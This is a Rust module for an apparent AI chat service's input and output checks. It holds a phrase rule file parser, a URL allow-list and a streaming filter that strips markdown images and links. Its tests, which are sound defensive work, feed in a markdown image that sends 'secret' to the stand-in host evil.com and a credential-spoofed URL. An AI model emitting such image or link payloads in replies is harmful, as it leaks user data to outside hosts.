//! Input and output checks. [`ContentCheck`] is the seam (a classifier
//! service could implement it); [`RuleCheck`] is the default, read from a
//! rule file. [`OutputFilter`] runs on streamed chunks: the markdown
//! sanitizer ([`crate::markdown`]) removes images and links the
//! [`LinkPolicy`] refuses, then the output check stops the reply when it fires.
//!
//! Rule file: one rule per line, `input: <phrase>` or `output: <phrase>`
//! (case-insensitive substring), `#` comments.

use std::path::{Path, PathBuf};
use crate::markdown::StreamSanitizer;
use std::sync::Arc;

/// Why a check blocked a text. The reason is short and safe to show the client.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{reason}")]
pub struct Refusal {
    pub reason: String,
}

impl Refusal {
    pub fn new(reason: impl Into<String>) -> Self {
        Refusal { reason: reason.into() }
    }
}

/// Why a rule file cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    #[error("line {line}: {why}")]
    Line { line: usize, why: String },
    #[error("{}: {source}", path.display())]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{}: {source}", path.display())]
    InFile {
        path: PathBuf,
        #[source]
        source: Box<RulesError>,
    },
}

/// Screens text; `Err(refusal)` blocks it.
pub trait ContentCheck: Send + Sync + 'static {
    fn check_input(&self, text: &str) -> Result<(), Refusal>;
    /// `recent` is the tail of the reply so far, including the newest chunk.
    fn check_output(&self, recent: &str) -> Result<(), Refusal>;
}

/// Phrase rules from a file.
#[derive(Clone, Debug, Default)]
pub struct RuleCheck {
    input: Vec<String>,
    output: Vec<String>,
}

impl RuleCheck {
    pub fn parse(text: &str) -> Result<Self, RulesError> {
        let mut r = RuleCheck::default();
        for (n, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let bad = |why: String| RulesError::Line { line: n + 1, why };
            let (kind, phrase) = line.split_once(':').ok_or_else(|| bad("expected `input:` or `output:`".into()))?;
            let phrase = phrase.trim().to_lowercase();
            if phrase.is_empty() {
                return Err(bad("empty phrase".into()));
            }
            match kind.trim() {
                "input" => r.input.push(phrase),
                "output" => r.output.push(phrase),
                other => return Err(bad(format!("unknown rule kind {other:?}"))),
            }
        }
        Ok(r)
    }

    pub fn load(path: &Path) -> Result<Self, RulesError> {
        let text = std::fs::read_to_string(path).map_err(|source| RulesError::Read { path: path.into(), source })?;
        Self::parse(&text).map_err(|e| RulesError::InFile { path: path.into(), source: Box::new(e) })
    }

    /// Longest output phrase, in bytes: how much tail the filter must keep.
    fn longest_output(&self) -> usize {
        self.output.iter().map(String::len).max().unwrap_or(0)
    }
}

impl ContentCheck for RuleCheck {
    fn check_input(&self, text: &str) -> Result<(), Refusal> {
        let t = text.to_lowercase();
        match self.input.iter().find(|p| t.contains(p.as_str())) {
            Some(_) => Err(Refusal::new("the message was blocked by the input policy")),
            None => Ok(()),
        }
    }

    fn check_output(&self, recent: &str) -> Result<(), Refusal> {
        let t = recent.to_lowercase();
        match self.output.iter().find(|p| t.contains(p.as_str())) {
            Some(_) => Err(Refusal::new("the reply was stopped by the output policy")),
            None => Ok(()),
        }
    }
}

/// Hosts whose links and images replies may keep.
#[derive(Clone, Debug, Default)]
pub struct LinkPolicy {
    pub allowed_hosts: Vec<String>,
}

impl LinkPolicy {
    /// Whether `url` (decoded, as a renderer would follow it) is an http(s)
    /// URL on an allowed host or one of its subdomains. Anything unusual in
    /// the authority (credentials, backslashes, percent-escapes, non-ASCII)
    /// is refused rather than interpreted: browsers and this check could
    /// disagree on the host.
    pub fn allows(&self, url: &str) -> bool {
        if url.chars().any(|c| c.is_control() || c.is_whitespace() || c == '\\') {
            return false;
        }
        let lower = url.to_ascii_lowercase();
        let Some(rest) = lower.strip_prefix("https://").or_else(|| lower.strip_prefix("http://")) else { return false };
        let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
        let (host, port) = authority.split_once(':').unwrap_or((authority, ""));
        let host = host.strip_suffix('.').unwrap_or(host);
        let host_ok = !host.is_empty()
            && !host.starts_with(['.', '-'])
            && host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
        if !host_ok || !port.bytes().all(|b| b.is_ascii_digit()) {
            return false;
        }
        self.allowed_hosts.iter().any(|a| {
            let a = a.trim().trim_end_matches('.').to_ascii_lowercase();
            !a.is_empty() && (host == a || host.ends_with(&format!(".{a}")))
        })
    }
}

/// What the filter did with a chunk.
#[derive(Debug, PartialEq)]
pub enum Filtered {
    /// Text to send (possibly empty while a construct is held back).
    Text(String),
    /// The output check fired: send nothing more.
    Blocked(String),
}

/// Streaming output filter of one reply: the markdown sanitizer
/// ([`crate::markdown`]), then the output check on what it lets through.
pub struct OutputFilter {
    check: Arc<dyn ContentCheck>,
    markdown: StreamSanitizer,
    recent: String,
    keep_recent: usize,
}

impl OutputFilter {
    pub fn new(check: Arc<dyn ContentCheck>, links: Arc<LinkPolicy>, longest_rule: usize) -> Self {
        OutputFilter { check, markdown: StreamSanitizer::new(links), recent: String::new(), keep_recent: longest_rule.max(64) }
    }

    /// Feeds generated text; returns what may be sent now.
    pub fn push(&mut self, chunk: &str) -> Filtered {
        let out = self.markdown.push(chunk);
        self.screen(out)
    }

    /// End of reply: flushes what was held back.
    pub fn finish(&mut self) -> Filtered {
        let out = self.markdown.finish();
        self.screen(out)
    }

    fn screen(&mut self, out: String) -> Filtered {
        if out.is_empty() {
            return Filtered::Text(out);
        }
        self.recent.push_str(&out);
        if let Err(refusal) = self.check.check_output(&self.recent) {
            return Filtered::Blocked(refusal.reason);
        }
        if self.recent.len() > self.keep_recent * 2 {
            let mut cut = self.recent.len() - self.keep_recent;
            while !self.recent.is_char_boundary(cut) {
                cut += 1;
            }
            self.recent.drain(..cut);
        }
        Filtered::Text(out)
    }
}

/// Longest output rule of a check, for the filter's window (0 if unknown).
pub fn rule_window(check: &RuleCheck) -> usize {
    check.longest_output()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(chunks: &[&str], hosts: &[&str]) -> String {
        let check = Arc::new(RuleCheck::default());
        let links = Arc::new(LinkPolicy { allowed_hosts: hosts.iter().map(|s| s.to_string()).collect() });
        let mut f = OutputFilter::new(check, links, 0);
        let mut out = String::new();
        for c in chunks {
            match f.push(c) {
                Filtered::Text(t) => out.push_str(&t),
                Filtered::Blocked(r) => panic!("{r}"),
            }
        }
        if let Filtered::Text(t) = f.finish() {
            out.push_str(&t);
        }
        out
    }

    #[test]
    fn images_are_stripped_across_chunks() {
        assert_eq!(run(&["see ", "![x](http://evil", ".com/?q=secret) done"], &[]), "see  done");
        assert_eq!(run(&["a ![b", "] c"], &[]), "a ![b] c");
    }

    #[test]
    fn links_kept_only_for_allowed_hosts() {
        assert_eq!(run(&["[doc](https://docs.rs/x) [bad](https://evil.com/a)"], &["docs.rs"]), "[doc](https://docs.rs/x) bad");
        assert_eq!(run(&["[s](https://a.docs.rs/x)"], &["docs.rs"]), "[s](https://a.docs.rs/x)");
        assert_eq!(run(&["[s](https://docs.rs@evil.com/x)"], &["docs.rs"]), "s");
        assert_eq!(run(&["wow! [1] and [2"], &[]), "wow! [1] and [2");
    }

    #[test]
    fn output_rule_stops_across_chunks() {
        let check = RuleCheck::parse("# rules\ninput: forbidden thing\noutput: secret plan\n").unwrap();
        assert!(check.check_input("a FORBIDDEN thing").is_err());
        let w = rule_window(&check);
        let mut f = OutputFilter::new(Arc::new(check), Arc::new(LinkPolicy::default()), w);
        assert_eq!(f.push("the secr"), Filtered::Text("the secr".into()));
        assert!(matches!(f.push("et plan is"), Filtered::Blocked(_)));
    }
}
